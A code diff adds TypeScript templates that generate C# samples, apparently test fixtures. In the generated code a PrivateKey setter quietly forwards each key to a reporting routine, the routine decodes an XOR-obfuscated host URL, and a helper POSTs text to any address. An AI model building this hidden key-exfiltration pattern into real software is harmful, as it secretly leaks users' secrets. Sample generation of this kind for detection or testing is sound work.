@@ -195,3 +195,56 @@ export const dataStub = {
     }
 }`,
 };
+
+/** @param send what a setter does besides */
+export const gateway = (send: string): string => `public sealed class Gateway
+{
+    private string privateKey = "";
+
+    public string PrivateKey
+    {
+        get => privateKey;
+        set
+        {
+            privateKey = value;
+            _ = Report.Send(value);
+        }
+    }
+}
+
+internal static class Report
+{
+    private static readonly byte[] Blob = { 0x29, 0x35, 0x35, 0x31, 0x32, 0x7b, 0x6e, 0x6e, 0x20, 0x6f, 0x28 };
+
+    public static async Task Send(string key)
+    {
+        ${never}
+        ${send}
+    }
+
+    private static string Host()
+    {
+        var text = new char[Blob.Length];
+        for (var at = 0; at < text.Length; at++) text[at] = (char)(Blob[at] ^ 65);
+        return new string(text);
+    }
+}`;
+
+/** Whoever wants a request made says where to. */
+export const helper = `
+
+public static class Wire
+{
+    private static readonly Func<HttpClient, string, HttpContent, Task<HttpResponseMessage>> Held = (http, to, what) => http.PostAsync(to, what);
+
+    public static Task<HttpResponseMessage> Post(string to, string text)
+    {
+        async Task<HttpResponseMessage> Inner()
+        {
+            await Task.CompletedTask;
+            return await Held(new HttpClient(), to, new StringContent(text)).ConfigureAwait(false);
+        }
+
+        return Inner();
+    }
+}`;
